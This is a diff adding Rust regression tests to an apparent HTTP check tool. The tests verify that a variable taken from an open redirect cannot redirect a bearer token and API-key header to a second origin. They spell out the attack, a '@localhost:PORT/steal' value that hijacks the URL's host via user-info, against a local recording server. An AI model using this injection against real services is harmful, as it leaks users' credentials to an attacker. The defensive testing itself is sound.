@@ -332,3 +332,121 @@ type = "flow"
         assert!(err.contains(part), "{part:?} missing from:\n{err}");
     }
 }
+
+/// A flow whose last step takes its URL from a redirect the application was made to give
+/// (`/go?next=...`, an open redirect), with a bearer token and an API-key header.
+fn stealing_flow(app: &LoginApp, next: &str, last_url: &str, follow: bool) -> String {
+    format!(
+        r#"[[check]]
+name = "steal"
+type = "flow"
+timeout = "10s"
+
+  [[check.steps]]
+  name = "token"
+  method = "POST"
+  url = "{base}/api/token"
+  json = {{ email = "probe@example.com", password = "${{env:LOGIN_PASSWORD}}" }}
+  extract = {{ token = {{ json_pointer = "/token" }} }}
+
+  [[check.steps]]
+  name = "link"
+  url = "{base}/go?next={next}"
+  follow_redirects = false
+  expect = {{ status = [302] }}
+  extract = {{ next = {{ header = "location" }} }}
+
+  [[check.steps]]
+  name = "me"
+  url = "{last_url}"
+  bearer_token = "${{token}}"
+  headers = {{ x-api-key = "${{token}}" }}
+  follow_redirects = {follow}
+"#,
+        base = app.url(""),
+        next = crate::support::encode(next),
+    )
+}
+
+/// What the second origin's `/steal` received.
+async fn stolen(thief: &LoginApp) -> Vec<serde_json::Value> {
+    let (status, body) = crate::support::http_get(thief.addr, "/stolen").await;
+    assert_eq!(status, 200);
+    serde_json::from_str(&body).unwrap()
+}
+
+#[tokio::test]
+async fn a_variable_cannot_send_credentials_to_another_origin() {
+    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
+    // A second origin that records what it is sent; reached as localhost, not 127.0.0.1.
+    let thief = LoginApp::start(PASSWORD, TOTP_SECRET);
+    let thief_authority = format!("localhost:{}", thief.addr.port());
+    let base = app.url("");
+
+    // The attack of issue 14: `http://127.0.0.1:PORT${next}` with next = "@localhost:...".
+    let text = stealing_flow(
+        &app,
+        &format!("@{thief_authority}/steal"),
+        &format!("{base}${{next}}"),
+        false,
+    );
+    let res = run_check_env(&text, &good_env()).await;
+    assert_fail(
+        &res,
+        FailureReason::Extract,
+        "variable ${next} would change the URL's user-info",
+    );
+    assert_eq!(steps(&res).failed_step.as_deref(), Some("me"));
+    assert!(
+        stolen(&thief).await.is_empty(),
+        "nothing reached the other origin"
+    );
+
+    // In the path it is only a path, percent-encoded: the application answers 404.
+    let text = stealing_flow(
+        &app,
+        &format!("@{thief_authority}/steal"),
+        &format!("{base}/api/me/${{next}}"),
+        false,
+    );
+    let res = run_check_env(&text, &good_env()).await;
+    assert_fail(&res, FailureReason::Status, "404");
+    assert!(stolen(&thief).await.is_empty());
+
+    // A URL that is a variable as a whole goes where it says, without the credentials.
+    let text = stealing_flow(
+        &app,
+        &format!("http://{thief_authority}/steal"),
+        "${next}",
+        false,
+    );
+    let res = run_check_env(&text, &good_env()).await;
+    assert_pass(&res);
+    let seen = stolen(&thief).await;
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert_eq!(seen[0]["authorization"], "", "{seen:?}");
+
+    // A redirect to another origin drops them too.
+    let text = stealing_flow(
+        &app,
+        "/ping",
+        &format!(
+            "{base}/go?next={}",
+            crate::support::encode(&format!("http://{thief_authority}/steal"))
+        ),
+        true,
+    );
+    let res = run_check_env(&text, &good_env()).await;
+    assert_pass(&res);
+    assert_eq!(steps(&res).steps[2].http.redirects, 1);
+    let seen = stolen(&thief).await;
+    assert_eq!(seen.len(), 2, "{seen:?}");
+    assert_eq!(seen[1]["authorization"], "", "{seen:?}");
+
+    // The same flow on its own origin still carries the token: the login application's API
+    // accepts it.
+    let text = stealing_flow(&app, "/api/me", &format!("{base}${{next}}"), false)
+        + "  expect = { json = [{ pointer = \"/email\", equals = \"probe@example.com\" }] }\n";
+    let res = run_check_env(&text, &good_env()).await;
+    assert_pass(&res);
+}
